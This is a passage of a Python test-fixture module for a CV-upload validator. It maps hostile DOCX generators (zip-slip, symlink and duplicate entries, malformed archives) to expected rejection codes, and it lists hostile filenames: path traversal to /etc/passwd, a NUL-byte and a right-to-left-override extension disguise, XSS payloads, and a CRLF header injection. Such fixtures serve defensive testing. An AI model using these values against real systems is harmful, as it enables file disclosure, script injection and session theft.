    "docx_hidden_data_between_entries": (docx_hidden_data_between_entries, "docx_malformed"),
    "docx_overlapping_entries_quoted": (
        docx_overlapping_entries_quoted,
        "docx_overlapping_entries",
    ),
    "docx_zip_slip_parent": (docx_zip_slip_parent, "docx_unsafe_path"),
    "docx_zip_slip_absolute": (docx_zip_slip_absolute, "docx_unsafe_path"),
    "docx_zip_slip_drive_letter": (docx_zip_slip_drive_letter, "docx_unsafe_path"),
    "docx_backslash_name": (docx_backslash_name, "docx_unsafe_path"),
    "docx_nul_in_name": (docx_nul_in_name, "docx_unsafe_path"),
    "docx_symlink_entry": (docx_symlink_entry, "docx_unsafe_path"),
    "docx_duplicate_names": (docx_duplicate_names, "docx_unsafe_path"),
    "docx_case_insensitive_duplicate": (docx_case_insensitive_duplicate, "docx_unsafe_path"),
    "docx_too_many_entries": (docx_too_many_entries, "docx_too_many_entries"),
    "docx_encrypted_entry": (docx_encrypted_entry, "docx_encrypted"),
    "docx_trailing_html": (docx_trailing_html, "docx_malformed"),
    "docx_truncated": (docx_truncated, "docx_malformed"),
    "docx_missing_main_part": (docx_missing_main_part, "docx_malformed"),
}

#: Name -> generator, as the brief for other modules names it.
HOSTILE_CVS: dict[str, Callable[[], bytes]] = {name: gen for name, (gen, _) in _HOSTILE.items()}
#: Name -> the ``CvRejected.code`` expected for that file.
EXPECTED_REJECTION: dict[str, str] = {name: code for name, (_, code) in _HOSTILE.items()}


def hostile_filenames() -> list[str]:
    """Client-supplied file names that must never be used as a path, header value or markup:
    path traversal (both separators), NUL, a 1000-character name, a right-to-left override
    disguising ``.exe`` as ``.pdf``, HTML/script, CRLF header injection, a Windows device
    name, percent-encoded traversal and an empty name."""
    return [
        "../../../etc/passwd",
        "..\\..\\Windows\\win.ini",
        "cv.pdf\x00.exe",
        "a" * 1000 + ".pdf",
        "cv\u202efdp.exe",
        "<script>alert(1)</script>.pdf",
        '"><img src=x onerror=alert(1)>.docx',
        "cv.pdf\r\nSet-Cookie: session=stolen",
        "CON.pdf",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "",
    ]
